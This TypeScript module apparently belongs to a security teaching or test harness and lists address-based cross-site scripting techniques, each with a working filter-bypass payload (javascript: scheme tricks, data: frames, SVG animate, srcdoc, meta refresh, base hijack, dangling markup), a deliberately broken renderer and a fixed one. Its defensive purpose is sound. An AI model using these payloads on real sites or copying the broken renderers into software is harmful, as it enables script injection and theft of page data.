import { at, escapeHtml, inText, removeScripts, type Technique } from './technique.ts'

const link = (address: string): string => `<a href="${escapeHtml(address)}">open</a>`
const frame = (address: string): string => `<iframe src="${escapeHtml(address)}"></iframe>`

/** Shows the address as plain text if it is refused, else as a link. */
const unless =
  (isRefused: (text: string) => boolean, place = link) =>
  (text: string): string =>
    isRefused(text) ? inText(escapeHtml(text)) : place(text)

const isForeign = (text: string): boolean => !URL.canParse(text) || !/^https?:$/.test(new URL(text).protocol)

const fixed = unless(isForeign)

/** A filter for three attributes that hold addresses. */
const checkAddresses = (text: string): string =>
  removeScripts(text).replace(/\b(href|src|action)\s*=\s*["']?\s*javascript:/gi, '$1=#')

/** Against addresses, and elements that have them. */
export const addressTechniques: Technique[] = [
  {
    name: 'script address',
    weakness: 'the scheme of an address is not checked',
    payload: ({ call }) => `javascript:${call}//`,
    broken: link,
    fixed,
    isAddress: true,
  },
  {
    name: 'scheme in capitals',
    weakness: 'the scheme is compared with regard to case',
    payload: ({ call }) => `JavaScript:${call}//`,
    broken: unless((text) => text.startsWith('javascript:')),
    fixed,
    isAddress: true,
  },
  {
    name: 'tab in the scheme',
    weakness: 'the scheme is compared before browsers drop tabs from it',
    payload: ({ call }) => `java\tscript:${call}//`,
    broken: unless((text) => /^javascript:/i.test(text)),
    fixed,
    isAddress: true,
  },
  {
    name: 'control character before the scheme',
    weakness: 'the address is trimmed of white space, browsers also drop control characters',
    payload: ({ call }) => `\u0001javascript:${call}//`,
    broken: unless((text) => /^\s*javascript:/i.test(text.replace(/[\t\n\r]/g, ''))),
    fixed,
    isAddress: true,
  },
  {
    name: 'entity in the scheme',
    weakness: 'the scheme is checked, and the ampersand not escaped',
    payload: ({ call }) => `javascript&colon;${call}`,
    broken: unless(
      (text) => /^javascript:/i.test(text),
      (text) => `<a href="${escapeHtml(text, /[<>"']/g)}">open</a>`,
    ),
    fixed,
    isAddress: true,
  },
  {
    name: 'data address',
    weakness: 'only the scheme javascript is refused for frames',
    payload: ({ call }) => `data:text/html,<script>${call}</script>`,
    broken: unless((text) => /^\s*javascript:/i.test(text), frame),
    fixed: unless(isForeign, frame),
    isAddress: true,
  },
  {
    name: 'Markdown link',
    weakness: 'Markdown is rendered without checking the scheme of links',
    payload: ({ call }) => `[open](javascript:${call})`,
    broken: (text) => text.replace(/\[.+?\]\((.+)\)/, (_, address: string) => link(address)),
    fixed: (text) => text.replace(/\[.+?\]\((.+)\)/, (_, address: string) => fixed(address)),
  },
  {
    name: 'address of a button',
    weakness: 'the filter checks href, src and action, not formaction',
    payload: ({ call }) => `<form><button formaction=javascript:${call}>`,
    ...at(inText, checkAddresses),
  },
  {
    name: 'animated address',
    weakness: 'the filter checks addresses as they are written, not as SVG animates them',
    payload: ({ call }) => `<svg><a><animate attributeName=href values=javascript:${call} /><text y=9>x`,
    ...at(inText, checkAddresses),
  },
  {
    name: 'document in an attribute',
    weakness: 'the filter does not decode srcdoc',
    payload: ({ call }) => `<iframe srcdoc="&lt;script>parent.${call}&lt;/script>">`,
    ...at(inText, checkAddresses),
  },
  {
    name: 'refresh',
    weakness: 'the filter allows meta elements, which lead visitors to another site',
    payload: ({ away }) => `<meta http-equiv=refresh content=0;url=${away}>`,
    ...at(inText, checkAddresses),
  },
  {
    name: 'base address',
    weakness: 'the filter allows base elements, which move the page’s own scripts to another site',
    payload: ({ away }) => `<base href=${away}/>`,
    ...at((text) => `${inText(text)}<script src="own.js"></script>`, checkAddresses),
  },
  {
    name: 'dangling markup',
    weakness: 'the filter allows images, whose open quote sends the page up to the next quote to another site',
    payload: ({ away }) => `<img src='${away}?`,
    ...at((text) => `${inText(text)}<p>secret</p><p title='x'>x</p>`, checkAddresses),
  },
]
